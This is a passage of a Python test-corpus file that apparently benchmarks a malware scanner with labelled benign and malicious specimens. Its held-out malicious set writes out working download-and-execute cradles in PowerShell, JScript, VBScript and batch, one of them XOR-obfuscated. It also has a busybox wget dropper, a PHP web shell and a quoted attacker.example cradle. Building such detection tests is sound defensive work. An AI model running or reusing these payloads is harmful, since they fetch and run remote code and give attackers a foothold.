        f'10.0.0.{i} - - [01/Jan/2024:10:00:{i:02d}] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0 Chrome/120.0.0.0"' for i in range(40)))),
    Specimen("data.csv", BENIGN, "text", text("id,name,amount\n" + "\n".join(f"{i},item{i},{i * 3.5}" for i in range(50)))),
    Specimen("newsletter.html", BENIGN, "html", text(f"<html><body><h1>Weekly digest</h1><ul>{_NEWSLETTER_LINKS}</ul>"
                                                     '<p><a href="https://news.example.com/unsubscribe">Unsubscribe</a></p></body></html>\n')),
    Specimen("page.html", BENIGN, "html", text("<html><head><script>document.addEventListener('DOMContentLoaded', function () {\n"
                                               "  document.getElementById('y').textContent = new Date().getFullYear(); });</script></head>"
                                               "<body><footer>&copy; <span id='y'></span> Example</footer></body></html>\n")),
    Specimen("downloads.html", BENIGN, "html", text('<html><body><h1>Downloads</h1><a href="https://downloads.example.com/setup.exe" download>'
                                                    'Windows installer</a> <a href="https://downloads.example.com/tool.zip">Portable</a></body></html>\n')),
    Specimen("www.google.com", BENIGN, "domain", text("www.google.com"), kind="domain"),
    Specimen("login.microsoftonline.com", BENIGN, "domain", text("login.microsoftonline.com"), kind="domain"),
    Specimen("paypal.com", BENIGN, "domain", text("paypal.com"), kind="domain"),
    Specimen("bbc.co.uk", BENIGN, "domain", text("bbc.co.uk"), kind="domain"),
    Specimen("someuser.github.io", BENIGN, "domain", text("someuser.github.io"), kind="domain"),
    Specimen("mail.example.org", BENIGN, "domain", text("mail.example.org"), kind="domain"),
    Specimen("8.8.8.8", BENIGN, "ip", text("8.8.8.8"), kind="ip"),
    Specimen("192.168.1.10", BENIGN, "ip", text("192.168.1.10"), kind="ip"),
    Specimen("https://www.example.com/docs/index.html", BENIGN, "uri", text("https://www.example.com/docs/index.html"), kind="uri"),
    Specimen("https://login.microsoftonline.com/common/oauth2/authorize", BENIGN, "uri",
             text("https://login.microsoftonline.com/common/oauth2/authorize"), kind="uri"),
    Specimen("https://github.com/python/cpython/releases", BENIGN, "uri", text("https://github.com/python/cpython/releases"), kind="uri"),
    Specimen("weekly.eml", BENIGN, "email", lambda: _eml("Weekly digest", "News <news@example.com>",
                                                         f"<ul>{_NEWSLETTER_LINKS}</ul>"), needs="email"),
    Specimen("receipt.eml", BENIGN, "email", lambda: _eml("Your receipt", "Shop <orders@example.com>",
                                                          '<p>Thanks for your order. <a href="https://shop.example.com/orders/123">View order</a></p>'),
             needs="email"),
    Specimen("Notepad.lnk", BENIGN, "lnk", lambda: _lnk("..\\..\\Windows\\System32\\notepad.exe", ""), needs="lnk"),
]

# -- held out --------------------------------------------------------------------------------------
# Written after the scores were calibrated on the specimens above, and not used to tune anything:
# the bench reports them apart, as the estimate of how the rules do on what they were not fitted to.
H2 = "http://203.0.113.7"


def _so_file() -> bytes:
    import msgspec._core

    return Path(msgspec._core.__file__).read_bytes()


_HELD_OUT_MALICIOUS = [
    ("wc_headers.ps1", "powershell", "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');iex $wc.DownloadString('" + H2 + "/s')\n"),
    ("iwr_content.ps1", "powershell", "Invoke-Expression (Invoke-WebRequest -UseBasicParsing " + H2 + "/p.ps1).Content\n"),
    ("exec_iwr.js", "javascript", 'var o = WScript.CreateObject("WScript.Shell");\no.Exec("powershell -ep bypass -w 1 -c \\"(iwr ' + H2 + '/a).Content|iex\\"");\n'),
    ("winhttp.vbs", "vbscript", 'Set w = CreateObject("WinHttp.WinHttpRequest.5.1")\nw.Open "GET", "' + H2 + '/v.txt", False\nw.Send\nExecuteGlobal w.ResponseText\n'),
    ("bits_ps.bat", "batch", "@echo off\npowershell -w hidden -c \"Start-BitsTransfer -Source " + H2 + "/a.exe -Destination $env:APPDATA\\a.exe; Start-Process $env:APPDATA\\a.exe\"\n"),
    ("string_key_xor.ps1", "powershell", "$key = 'k3y'\n$enc = [Convert]::FromBase64String('"
     + base64.b64encode(bytes(b ^ k for b, k in zip(("IEX (New-Object Net.WebClient).DownloadString('" + H2 + "/x')").encode(), b"k3y" * 100))).decode()
     + "')\n$out = for($i=0; $i -lt $enc.Length; $i++){ $enc[$i] -bxor [byte]$key[$i % $key.Length] }\niex ([Text.Encoding]::UTF8.GetString($out))\n"),
    ("busybox_dropper", "elf", None),
    ("phpshell.php", "webshell", "<?php @system($_REQUEST['cmd']); ?>\n"),
]
_HELD_OUT_BENIGN = [
    ("eventlog.ps1", "powershell", "Get-EventLog -LogName System -Newest 50 | Where-Object EntryType -eq 'Error' | Format-List TimeGenerated, Message\n"),
    ("reset_wu.ps1", "powershell", "Stop-Service wuauserv -Force\nRemove-Item C:\\Windows\\SoftwareDistribution -Recurse -Force\nStart-Service wuauserv\n"),
    ("latest_release.ps1", "powershell", "$rel = Invoke-RestMethod https://api.github.com/repos/example/tool/releases/latest\n"
     "Invoke-WebRequest $rel.assets[0].browser_download_url -OutFile tool.zip\nExpand-Archive tool.zip -DestinationPath C:\\Tools\\\n"),
    ("server.js", "javascript", "const express = require('express');\nconst app = express();\napp.get('/', (req, res) => res.send('Hello ' + 'World'));\napp.listen(3000);\n"),
    ("shortcut.vbs", "vbscript", 'Set sh = CreateObject("WScript.Shell")\nSet lnk = sh.CreateShortcut(sh.SpecialFolders("Desktop") & "\\App.lnk")\n'
     'lnk.TargetPath = "\\\\server\\apps\\app.exe"\nlnk.Save\n'),
    ("refresh.bat", "batch", "@echo off\nnet use Z: \\\\fileserver\\share /persistent:yes\ngpupdate /force\nrobocopy \\\\fileserver\\templates C:\\Templates /E\n"),
    ("get_node.bat", "batch", "@echo off\ncurl -L -o node.zip https://nodejs.org/dist/v20.0.0/node-v20.0.0-win-x64.zip\ntar -xf node.zip -C C:\\Tools\n"),
    ("report_macro.docm", "office", None),
    ("brochure.html", "html", '<html><body><img src="data:image/png;base64,' + base64.b64encode(bytes(range(256)) * 4).decode()
     + '"><a href="https://www.example.com/brochure.pdf" download>Brochure (PDF)</a><script>console.log("loaded")</script></body></html>\n'),
    ("support.apple.com", "domain", "support.apple.com"),
    ("secure.bankofamerica.com", "domain", "secure.bankofamerica.com"),
    ("_core.so", "elf", None),
    ("blog_post.txt", "text", "How attackers stage PowerShell\n\nA typical download cradle looks like\n"
     "IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/payload.ps1')\n"
     "and defenders should log script blocks (event 4104) to see it.\n"),
]


def _held_out(rows: list, label: str) -> list[Specimen]:
    builders = {
        "busybox_dropper": lambda: binaries.elf(b"/bin/busybox wget " + H2.encode() + b"/bins.sh; chmod 777 bins.sh; sh bins.sh\x00", sections=False),
        "report_macro.docm": docm("Sub OpenReports()\n    Shell \"explorer.exe C:\\Reports\", vbNormalFocus\nEnd Sub\n", "Monthly report"),
        "_core.so": _so_file,
    }
    specimens = []
    for name, fmt, content in rows:
        kind = "domain" if fmt == "domain" else "file"
        specimens.append(Specimen(name, label, fmt, builders.get(name) or text(content), kind=kind, held_out=True))
    return specimens


HELD_OUT = _held_out(_HELD_OUT_MALICIOUS, MALICIOUS) + _held_out(_HELD_OUT_BENIGN, BENIGN)

SPECIMENS = MALICIOUS_SPECIMENS + BENIGN_SPECIMENS + HELD_OUT


# -- scanning and scoring ----------------------------------------------------------------------
ALERT = 500  # a specimen counts as flagged when its submission scores this or more


@dataclass
class Outcome:
    specimen: Specimen
    score: int
    verdict: str
    errors: int
    why: str  # the heuristics behind the score, for reading misses and false positives

    @property
    def flagged(self) -> bool:
        return self.score >= ALERT


def buildable(specimens: list[Specimen]) -> tuple[list[Specimen], list[tuple[Specimen, str]]]:
    """The specimens whose build can run here, and the others with the reason."""
    import shutil

    ok, skipped = [], []
    for specimen in specimens:
        if specimen.requires and shutil.which(specimen.requires) is None:
            skipped.append((specimen, f"{specimen.requires} is not installed"))
        else:
            ok.append(specimen)
    return ok, skipped


async def scan_corpus(client, specimens: list[Specimen], timeout: float = 300.0, on_done=None) -> list[Outcome]:
    """Submit every specimen (files as files, domains/IPs/URIs as samples) and collect the verdicts."""
    sids: dict[str, Specimen] = {}
    for specimen in specimens:
        if specimen.kind == "file":
            sid = await client.submit_bytes([(specimen.name, specimen.build())])
        else:
            sid = await client.submit_sample(specimen.kind, specimen.build().decode())
        sids[sid] = specimen
    summaries = await client.wait_all(sids, timeout=timeout, on_done=on_done)
    outcomes = []
    for sid, specimen in sids.items():
        summary = summaries.get(sid)
        if summary is None:
            outcomes.append(Outcome(specimen, -1, "timeout", 1, "no verdict in time"))
            continue
        outcomes.append(Outcome(specimen, summary.score, summary.verdict, summary.errors, ", ".join(summary.heuristics[:6])))
    return outcomes
